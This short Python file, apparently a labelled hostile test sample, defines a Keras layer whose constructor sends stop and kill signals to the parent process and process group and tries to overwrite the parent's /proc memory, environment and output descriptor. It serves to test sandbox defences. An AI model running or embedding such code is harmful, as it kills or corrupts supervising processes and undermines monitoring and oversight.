# Attack those who watch: signals, their memory, their descriptors.
# live: crash
import os
import signal
import keras


class Own(keras.layers.Layer):
    def __init__(self):
        super().__init__()
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(os.getppid(), number)
                os.killpg(0, number)
            except OSError:
                pass
        for path in (f"/proc/{os.getppid()}/mem", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/fd/1"):
            try:
                open(path, "wb").write(b"x")
            except OSError:
                pass


model = keras.Sequential([keras.Input((8,)), Own(), keras.layers.Dense(3)])
